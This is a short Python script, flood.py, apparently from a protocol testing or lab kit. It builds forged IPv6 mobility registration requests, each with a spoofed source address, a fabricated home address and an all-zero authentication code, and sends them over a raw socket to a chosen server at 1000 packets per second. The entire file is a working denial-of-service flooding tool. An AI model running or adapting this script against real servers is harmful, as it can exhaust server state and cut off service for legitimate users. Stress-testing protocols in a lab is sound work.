#!/usr/bin/env python3
"""flood.py INTERFACE SERVER SECONDS: sends SERVER Registration Requests about home addresses that nobody has,
from as many source addresses, 1000 a second, each with a MAC of zeros."""

import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from throw import ETH_P_IPV6, gateway_mac  # noqa: E402

PER_SECOND = 1000


def ip6(text):
    return socket.inet_pton(socket.AF_INET6, text)


def registration(number, server):
    """As PROTOCOL 3 shows it; a new /64 every tenth time."""
    source = ip6("2001:db8:c::")[:6] + struct.pack("!HQ", number // 10 & 0xffff, number)
    home = ip6("2001:db8:bad::")[:8] + struct.pack("!Q", number)
    header = bytes([0x3b, 7, 0xca, 0x24, 0x80, 64]) + struct.pack("!HI", 1, 600)
    header += bytes([1, 0, 5, 0x18]) + struct.pack("!II", 0x1001, 0) + bytes(16)
    header += bytes([1, 4, 0, 0, 0, 0, 0xc9, 0x10]) + home
    return struct.pack("!IHBB", 6 << 28, len(header), 60, 64) + source + server + header


def main():
    interface, server, seconds = sys.argv[1], ip6(sys.argv[2]), float(sys.argv[3])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6)) as wire:
        wire.bind((interface, 0))
        head = gateway_mac(interface) + wire.getsockname()[4] + ETH_P_IPV6.to_bytes(2, "big")
        number, end = 0, time.monotonic() + seconds
        while time.monotonic() < end:
            for number in range(number + 1, number + 1 + PER_SECOND // 50):
                wire.send(head + registration(number, server))
            time.sleep(1 / 50)


if __name__ == "__main__":
    main()
